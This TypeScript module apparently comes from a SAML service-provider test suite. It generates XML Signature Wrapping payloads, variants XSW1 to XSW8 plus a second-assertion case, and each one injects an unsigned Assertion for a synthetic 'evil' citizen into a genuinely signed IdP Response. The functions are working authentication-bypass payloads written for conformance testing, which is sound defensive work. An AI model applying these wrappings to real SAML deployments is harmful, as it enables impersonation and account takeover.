/**
 * XML signature wrapping against an SP (Somorovsky et al., "On Breaking SAML: Be Whoever You Want
 * to Be", USENIX Security 2012, §4, variants XSW1–XSW8): the attacker keeps the IdP's valid
 * signature over the genuine Assertion (or Response) and adds an *evil* Assertion — here for another
 * citizen — placed so that a careless SP verifies the genuine element but reads the evil one. An SP
 * that opens a session for the evil citizen, or at all, fails the case.
 *
 * Each function takes the Response as the IdP signed it (Response and Assertion signatures) and
 * returns the wrapped document.
 */
import type { Edit } from './craft.ts';

/** The evil citizen (synthetic): what a wrapped Assertion asserts instead of the holder. */
export const EVIL = {
  name: 'EVA',
  familyName: 'INTRUSA',
  fiscalNumber: 'TINIT-NTRVEA80A41H501Z',
} as const;

interface Parts {
  /** `<samlp:Response …>` start tag. */
  readonly open: string;
  /** Everything between the start tag and the Assertion (Issuer, Signature, Status). */
  readonly head: string;
  /** The Response's own signature (inside `head`). */
  readonly responseSignature: string;
  /** The signed Assertion, with its signature. */
  readonly assertion: string;
  readonly close: string;
}

function parts(xml: string): Parts {
  const m =
    /^(<samlp:Response\b[^>]*>)([\s\S]*?)(<saml:Assertion\b[\s\S]*<\/saml:Assertion>)([\s\S]*)$/.exec(
      xml,
    );
  if (!m) throw new Error('unexpected signed Response layout');
  const head = m[2] as string;
  const sig = /<ds:Signature\b[\s\S]*?<\/ds:Signature>/.exec(head)?.[0] ?? '';
  return {
    open: m[1] as string,
    head,
    responseSignature: sig,
    assertion: m[3] as string,
    close: m[4] as string,
  };
}

const assertionSignature = (a: string): string =>
  /<ds:Signature\b[\s\S]*?<\/ds:Signature>/.exec(a)?.[0] ?? '';
const withoutSignature = (a: string): string =>
  a.replace(/<ds:Signature\b[\s\S]*?<\/ds:Signature>/, '');

/** The genuine Assertion turned evil: new ID, the evil citizen's attributes, no signature. */
export function evilAssertion(genuine: string, id = '_evil0000000000000000000000000001'): string {
  let a = withoutSignature(genuine).replace(/(<saml:Assertion\b[^>]*\sID=")[^"]*"/, `$1${id}"`);
  for (const [name, value] of Object.entries(EVIL))
    a = a.replace(
      new RegExp(`(<saml:Attribute Name="${name}"[^>]*>\\s*<saml:AttributeValue\\b[^>]*>)[^<]*`),
      `$1${value}`,
    );
  return a;
}

const noResponseSignature = (p: Parts): string => p.head.replace(p.responseSignature, '');

/** XSW1: an evil Response (new ID) carries the signature; the genuine Response sits inside the Signature. */
export const xsw1: Edit = (xml) => {
  const p = parts(xml);
  const evilOpen = p.open.replace(/\sID="[^"]*"/, ' ID="_evilresponse00000000000000000001"');
  const sigWithOriginal = p.responseSignature.replace('</ds:Signature>', `${xml}</ds:Signature>`);
  return (
    evilOpen +
    noResponseSignature(p).replace(/(<\/saml:Issuer>)/, `$1${sigWithOriginal}`) +
    evilAssertion(p.assertion) +
    p.close
  );
};

/** XSW2: an evil Response (new ID) with the genuine signed Response placed before its content. */
export const xsw2: Edit = (xml) => {
  const p = parts(xml);
  const evilOpen = p.open.replace(/\sID="[^"]*"/, ' ID="_evilresponse00000000000000000002"');
  return (
    evilOpen +
    noResponseSignature(p).replace(/(<\/saml:Issuer>)/, `$1${xml}`) +
    evilAssertion(p.assertion) +
    p.close
  );
};

/** XSW3: the evil Assertion placed before the genuine signed one (Response signature dropped). */
export const xsw3: Edit = (xml) => {
  const p = parts(xml);
  return p.open + noResponseSignature(p) + evilAssertion(p.assertion) + p.assertion + p.close;
};

/** XSW4: the genuine signed Assertion wrapped inside the evil one. */
export const xsw4: Edit = (xml) => {
  const p = parts(xml);
  const evil = evilAssertion(p.assertion).replace(
    '</saml:Assertion>',
    `${p.assertion}</saml:Assertion>`,
  );
  return p.open + noResponseSignature(p) + evil + p.close;
};

/** XSW5: the evil Assertion carries the genuine signature; the genuine one follows, unsigned. */
export const xsw5: Edit = (xml) => {
  const p = parts(xml);
  const sig = assertionSignature(p.assertion);
  const evil = evilAssertion(p.assertion).replace(/(<\/saml:Issuer>)/, `$1${sig}`);
  return p.open + noResponseSignature(p) + evil + withoutSignature(p.assertion) + p.close;
};

/** XSW6: the evil Assertion carries the signature, with the genuine Assertion inside the signature. */
export const xsw6: Edit = (xml) => {
  const p = parts(xml);
  const sig = assertionSignature(p.assertion).replace(
    '</ds:Signature>',
    `${withoutSignature(p.assertion)}</ds:Signature>`,
  );
  const evil = evilAssertion(p.assertion).replace(/(<\/saml:Issuer>)/, `$1${sig}`);
  return p.open + noResponseSignature(p) + evil + p.close;
};

/** XSW7: the genuine signed Assertion hidden in an Extensions element, the evil one where it belongs. */
export const xsw7: Edit = (xml) => {
  const p = parts(xml);
  return (
    p.open +
    noResponseSignature(p).replace(
      /(<\/saml:Issuer>)/,
      `$1<samlp:Extensions>${p.assertion}</samlp:Extensions>`,
    ) +
    evilAssertion(p.assertion) +
    p.close
  );
};

/** XSW8: the evil Assertion's signature holds the genuine Assertion in a ds:Object. */
export const xsw8: Edit = (xml) => {
  const p = parts(xml);
  const sig = assertionSignature(p.assertion).replace(
    '</ds:Signature>',
    `<ds:Object>${withoutSignature(p.assertion)}</ds:Object></ds:Signature>`,
  );
  const evil = evilAssertion(p.assertion).replace(/(<\/saml:Issuer>)/, `$1${sig}`);
  return p.open + noResponseSignature(p) + evil + p.close;
};

/** The evil Assertion added after the genuine one, both Response and Assertion signatures kept. */
export const secondAssertion: Edit = (xml) => {
  const p = parts(xml);
  return p.open + p.head + p.assertion + evilAssertion(p.assertion) + p.close;
};
